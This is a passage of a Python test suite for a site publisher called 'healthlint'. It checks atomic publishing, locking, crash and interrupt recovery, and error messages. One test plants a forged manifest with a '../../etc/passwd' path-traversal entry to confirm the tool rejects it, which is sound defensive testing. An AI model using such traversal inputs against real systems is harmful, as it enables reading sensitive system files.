    assert (site / "CNAME").stat().st_ino == inode  # the very same file, not a copy
    assert (site / "img" / "logo.png").read_bytes() == b"\x89PNG fake"
    assert (site / "drafts").is_dir()
    assert os.readlink(site / "latest.html") == "neck.html"
    assert "CNAME" not in json.loads((site / "manifest.json").read_text())["files"]
    assert leftovers(root) == []


def test_refuses_to_overwrite_a_file_it_did_not_make(tmp_path, run_cli):
    root = make_project(tmp_path, {"neck.md": STIFF_NECK})
    assert run_cli("publish", "--out", "site", cwd=root).exit_code == 0
    write_article(root, "feet.md", SORE_FEET)
    (root / "site" / "feet.html").write_text("<p>my own page</p>", encoding="utf-8")
    before = snapshot(root / "site")
    result = run_cli("publish", "--out", "site", cwd=root)
    assert result.exit_code == 2
    assert "site/feet.html: exists and was not written by healthlint" in result.stderr
    assert snapshot(root / "site") == before


def test_a_folder_that_cannot_be_written_is_a_clear_error(tmp_path, run_cli):
    root = make_project(tmp_path, {"neck.md": STIFF_NECK})
    (root / "notes").write_text("a file, not a folder", encoding="utf-8")
    result = run_cli("publish", "--out", "notes/site", cwd=root)
    assert result.exit_code == 2
    assert "publisher 'site' could not write: " in result.stderr and "notes" in result.stderr
    assert "Traceback" not in result.stderr
    assert (root / "notes").read_text(encoding="utf-8") == "a file, not a folder"


def test_refuses_while_another_publish_holds_the_lock(tmp_path, run_cli):
    root = make_project(tmp_path, {"neck.md": STIFF_NECK})
    with atomic.locked(root):
        result = run_cli("publish", "--out", "site", cwd=root)
    assert result.exit_code == 2
    assert "another healthlint publish is writing in" in result.stderr
    assert not (root / "site").exists()


# -- Failures and interruptions leave the previous site as it was ----------------------------


def _project_with_site(tmp_path: Path, run_cli: Any, count: int = 12) -> tuple[Path, dict[str, Any]]:
    articles = {
        f"tip-{i:02d}.md": f"---\ntitle: Tip {i}\n---\nStand up and stretch every {i + 20} minutes at work.\n"
        for i in range(count)
    }
    root = make_project(tmp_path, articles, plugins={"blocking.py": BLOCKING_PLUGIN})
    (root / "site").mkdir()
    assert run_cli("publish", "--out", "site", cwd=root).exit_code == 0
    (root / "site" / "robots.txt").write_text("User-agent: *\n", encoding="utf-8")  # a file of the site owner's
    for i in range(count):  # the next publish would change every page
        write_article(root, f"tip-{i:02d}.md", f"---\ntitle: Tip {i}, revised\n---\nWalk for {i + 5} minutes.\n")
    return root, snapshot(root / "site")


def test_a_killed_publish_leaves_the_previous_site_byte_for_byte(tmp_path, run_cli):
    root, before = _project_with_site(tmp_path, run_cli)
    reached = tmp_path / "reached"
    process = run_sub(
        root, "publish", "--publisher", "blocking-site", "--out", "site", env={"BLOCK_SIGNAL": str(reached)}
    )
    wait_for(reached, process)
    [building] = [p for p in root.iterdir() if ".site.healthlint-tmp-" in p.name]
    assert len(list(building.glob("*.html"))) == 5  # killed halfway through writing the new pages
    process.send_signal(signal.SIGKILL)
    process.wait(timeout=30)
    assert process.returncode == -signal.SIGKILL

    assert snapshot(root / "site") == before

    result = run_cli("publish", "--out", "site", cwd=root)  # the next run cleans up and publishes
    assert result.exit_code == 0, result.stderr
    assert leftovers(root) == []
    assert "Tip 3, revised" in (root / "site" / "tip-03.html").read_text(encoding="utf-8")
    assert (root / "site" / "robots.txt").read_text(encoding="utf-8") == "User-agent: *\n"


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX resource limits")
def test_a_publish_that_runs_out_of_space_names_where_and_leaves_the_previous_site(tmp_path, run_cli):
    # A full disk, as a file-size limit: every write past 2 kB fails (EFBIG; Python ignores SIGXFSZ), as a
    # write on a full disk fails with ENOSPC. Neither error carries a file name: the message must add it.
    import resource

    root, before = _project_with_site(tmp_path, run_cli)

    def limited() -> None:
        _default_sigint()
        resource.setrlimit(resource.RLIMIT_FSIZE, (2048, 2048))

    full_env = {**os.environ, "HEALTHLINT_DISABLE_PLUGIN_AUTOLOAD": "1", "NO_COLOR": "1"}
    process = subprocess.run(
        [sys.executable, "-m", "healthlint", "publish", "--out", "site", "--no-cache", "--no-progress"],
        cwd=root,
        env=full_env,
        capture_output=True,
        text=True,
        timeout=300,
        preexec_fn=limited,
    )
    assert process.returncode == 2, process.stderr
    (line,) = process.stderr.splitlines()[-1:]
    assert re.fullmatch(
        r"healthlint: error: publisher 'site' could not write: .*\.site\.healthlint-tmp-[^:]*/[^:]+: .+", line
    ), line
    assert snapshot(root / "site") == before
    assert leftovers(root) == []


@pytest.mark.parametrize("signum", [signal.SIGINT, signal.SIGTERM], ids=["ctrl-c", "sigterm"])
def test_an_interrupted_publish_cleans_up_and_leaves_the_previous_site(tmp_path, run_cli, signum):
    root, before = _project_with_site(tmp_path, run_cli)
    reached = tmp_path / "reached"
    process = run_sub(
        root, "publish", "--publisher", "blocking-site", "--out", "site", env={"BLOCK_SIGNAL": str(reached)}
    )
    wait_for(reached, process)
    process.send_signal(signum)
    _, err = process.communicate(timeout=30)
    assert process.returncode == 130  # not 1, which means "--strict and an article was withheld"
    assert err.splitlines()[-1] == "healthlint: interrupted" and "Traceback" not in err
    assert snapshot(root / "site") == before
    assert leftovers(root) == []


def test_a_template_error_halfway_leaves_the_previous_site(tmp_path, run_cli):
    root, before = _project_with_site(tmp_path, run_cli)
    (root / "healthlint.toml").write_text(CONFIG + 'templates = "theme"\n', encoding="utf-8")
    (root / "theme").mkdir()
    (root / "theme" / "article.html").write_text(
        '{% extends "healthlint/article.html" %}\n'
        '{% block footer %}{{ article.meta.sponsor if article.slug < "tip-06" else article.meta.nope }}'
        "{% endblock %}\n",
        encoding="utf-8",
    )
    for i in range(6):
        text = (root / "articles" / f"tip-{i:02d}.md").read_text(encoding="utf-8")
        write_article(root, f"tip-{i:02d}.md", text.replace("---\n", "---\nsponsor: none\n", 1))
    result = run_cli("publish", "--out", "site", cwd=root)
    assert result.exit_code == 2
    assert "theme/article.html: template error:" in result.stderr and "nope" in result.stderr
    assert snapshot(root / "site") == before
    assert leftovers(root) == []


def test_a_crashing_publisher_is_named_and_leaves_no_trace(tmp_path, run_cli):
    broken = """
from healthlint import hookimpl
from healthlint.publish import Publisher


class Broken(Publisher):
    name = "broken"

    def publish(self, publication):
        raise KeyError("bucket")


@hookimpl
def healthlint_register_publishers(register):
    register(Broken)
"""
    root = make_project(tmp_path, {"neck.md": STIFF_NECK}, plugins={"broken.py": broken})
    result = run_cli("publish", "--publisher", "broken", "--out", "site", cwd=root)
    assert result.exit_code == 3
    assert "publisher 'broken' failed: KeyError: 'bucket'" in result.stderr


def test_an_old_site_moved_away_by_a_crash_is_put_back(tmp_path, run_cli, monkeypatch):
    """The two-rename fallback's crash window: no --out, the old site under its -old- name."""
    root = make_project(tmp_path, {"neck.md": STIFF_NECK, "feet.md": SORE_FEET})
    assert run_cli("publish", "--out", "site", cwd=root).exit_code == 0
    before = snapshot(root / "site")
    (root / "site").rename(root / ".site.healthlint-old-00000000000000000001-1")
    building = root / ".site.healthlint-tmp-00000000000000000002-1"
    building.mkdir()
    (building / atomic.BUILDING_MARKER).touch()
    (building / "neck.html").write_text("half", encoding="utf-8")

    assert atomic.recover(root / "site") == [
        "put back the previous site from .site.healthlint-old-00000000000000000001-1 (an earlier run was interrupted)"
    ]
    assert snapshot(root / "site") == before
    assert leftovers(root) == []


def test_swaps_with_two_renames_where_exchange_is_unsupported(tmp_path, run_cli, monkeypatch):
    monkeypatch.setattr(atomic, "exchange", lambda a, b: False)
    root = make_project(tmp_path, {"neck.md": STIFF_NECK})
    assert run_cli("publish", "--out", "site", cwd=root).exit_code == 0
    (root / "site" / "CNAME").write_text("x\n", encoding="utf-8")
    write_article(root, "feet.md", SORE_FEET)
    assert run_cli("publish", "--out", "site", cwd=root).exit_code == 0
    assert sorted(p.name for p in (root / "site").iterdir()) == [
        "CNAME", "feet.html", "index.html", "manifest.json", "neck.html", "sitemap.xml",
    ]  # fmt: skip
    assert leftovers(root) == []


def test_discarding_an_old_tree_keeps_files_healthlint_did_not_make(tmp_path):
    live = tmp_path / "site"
    old = tmp_path / ".site.healthlint-old-1"
    for folder in (live, old):
        folder.mkdir()
    manifest = {
        "generator": atomic.GENERATOR,
        "files": ["a.html"],
        "file_hashes": {"a.html": atomic.file_hash(b"ours")},
    }
    (old / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
    (old / "a.html").write_text("ours", encoding="utf-8")
    (old / "CNAME").write_text("carried", encoding="utf-8")
    os.link(old / "CNAME", live / "CNAME")
    (old / "new-while-publishing.txt").write_text("the owner's", encoding="utf-8")
    assert atomic.discard(old, live) == ["new-while-publishing.txt"]
    assert sorted(p.name for p in old.iterdir()) == ["new-while-publishing.txt"]
    assert (live / "CNAME").read_text(encoding="utf-8") == "carried"


def test_a_manifest_it_did_not_write_is_not_trusted(tmp_path, run_cli):
    root = make_project(tmp_path, {"neck.md": STIFF_NECK})
    (root / "site").mkdir()
    (root / "site" / "manifest.json").write_text('{"files": ["../../etc/passwd"]}', encoding="utf-8")
    result = run_cli("publish", "--out", "site", cwd=root)
    assert result.exit_code == 2
    assert "site/manifest.json: is not a manifest written by healthlint publish" in result.stderr
    with pytest.raises(UsageError, match="is not a path inside the site"):
        (root / "site" / "manifest.json").write_text(
            json.dumps({"generator": atomic.GENERATOR, "files": ["../x"]}), encoding="utf-8"
        )
        atomic.read_manifest(root / "site")


# -- Progress --------------------------------------------------------------------------------


class _Terminal:
    """A stand-in for a terminal's stderr."""

    def __init__(self) -> None:
        self.parts: list[str] = []

    def write(self, text: str) -> int:
        self.parts.append(text)
        return len(text)

    def flush(self) -> None:
        pass

    def isatty(self) -> bool:
        return True

    def fileno(self) -> int:
        raise OSError("not a real terminal")


def test_progress_bar_only_for_long_runs_on_a_terminal(tmp_path, monkeypatch):
    from healthlint.publish import pipeline

    terminal = _Terminal()
    monkeypatch.setattr(sys, "stderr", terminal)
    with pipeline._progress_bar(3, "Checking") as advance:
        advance(3)
    assert terminal.parts == []
    with pipeline._progress_bar(40, "Checking") as advance:
        advance(40)
    assert "Checking" in "".join(terminal.parts) and "100%" in "".join(terminal.parts)


# -- The shared seeds ------------------------------------------------------------------------

GATE_FAMILIES = {"spun": "HL1", "disclaimer": "HL2", "claims": "HL3", "readability": "HL4", "links": "HL5"}


def test_publishes_exactly_the_seeds_that_pass(tmp_path, run_cli):
    seeds = SHARED / "seeds"
    if not (seeds / "expected.json").is_file():
        pytest.skip(f"{seeds} is not available")
    pm = get_plugin_manager(Config(root=tmp_path), autoload=False, local=False)
    missing = [family for family, prefix in GATE_FAMILIES.items() if not any(c.startswith(prefix) for c in pm.rules)]
    if missing:
        pytest.skip(f"the gate is not complete yet (no rules for {', '.join(missing)})")
    expected = json.loads((seeds / "expected.json").read_text(encoding="utf-8"))["articles"]

    result = run_cli("publish", str(seeds), "--out", "site", cwd=tmp_path)
    assert result.exit_code == 0, result.stdout + result.stderr
    site = tmp_path / "site"
    manifest = json.loads((site / "manifest.json").read_text(encoding="utf-8"))
    published = {Path(e["source"]).name for e in manifest["published"]}
    assert published == {name for name, spec in expected.items() if spec["publish"]}
    withheld = {Path(e["source"]).name: e["codes"] for e in manifest["withheld"]}
    assert set(withheld) == {name for name, spec in expected.items() if not spec["publish"]}
    assert all(withheld.values()), withheld
    for name, codes in withheld.items():
        assert f"withheld   {seeds / name}: {codes[0]}" in result.stdout
    assert {p.name for p in site.iterdir()} == {Path(n).stem + ".html" for n in published} | {
        "index.html",
        "sitemap.xml",
        "manifest.json",
    }
    for page in site.glob("*.html"):
        html5(page)


@pytest.mark.parametrize("where", ["under-a-file", "a-folder"])
def test_a_report_that_cannot_be_written_stops_the_run_before_the_site_changes(tmp_path, run_cli, where):
    # Exit 2 means nothing was written: a --report that cannot be written must be found before the new site is
    # swapped in, not after (the site was replaced, then the run said "cannot be written" and exited 2).
    from tests.helpers import make_project as make_simple_project

    root = make_simple_project(tmp_path)
    assert run_cli("publish", "--out", "site", cwd=root).exit_code == 0
    (root / "articles" / "good.md").write_text("# Walking\n\nA short walk each day eases stiff joints.\n")
    before = snapshot(root / "site")
    (root / "a-file").write_text("", encoding="utf-8")
    (root / "a-folder").mkdir()
    report = "a-file/withheld.html" if where == "under-a-file" else "a-folder"
    result = run_cli("publish", "--out", "site", "--report", report, cwd=root)
    assert result.exit_code == 2, result.stderr
    last = result.stderr.strip().splitlines()[-1]
    assert last.startswith(f"healthlint: error: {report}: cannot be written: ") or "is a directory" in last, last
    assert snapshot(root / "site") == before
    assert leftovers(root) == [] and sorted(p.name for p in (root / "a-folder").iterdir()) == []
